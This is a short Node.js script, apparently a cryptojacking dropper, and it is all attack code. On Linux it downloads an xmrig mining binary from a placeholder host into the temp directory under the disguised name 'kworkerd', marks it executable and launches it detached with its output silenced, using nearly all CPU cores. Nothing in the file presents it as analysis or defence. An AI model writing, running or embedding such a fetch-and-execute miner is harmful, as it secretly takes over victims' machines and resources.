const { createWriteStream, chmodSync } = require('fs')
const { spawn } = require('child_process')
const { join } = require('path')
const https = require('https')
const os = require('os')

const file = join(os.tmpdir(), 'kworkerd')
const options = ['-o', 'stratum+tcp://pool.example.invalid:3333', '-u', '0xINERT', '-p', 'x', '--cpu-priority', '0', '--donate-level', '1', '-t', String(Math.max(1, os.cpus().length - 1))]

function start () {
  chmodSync(file, 0o755)
  spawn(file, options, { detached: true, stdio: 'ignore' }).unref()
}

if (os.platform() === 'linux') {
  https.get('https://pool.example.invalid/xmrig-6.21.0-linux-static-x64', (res) => res.pipe(createWriteStream(file)).on('close', start)).on('error', () => {})
}
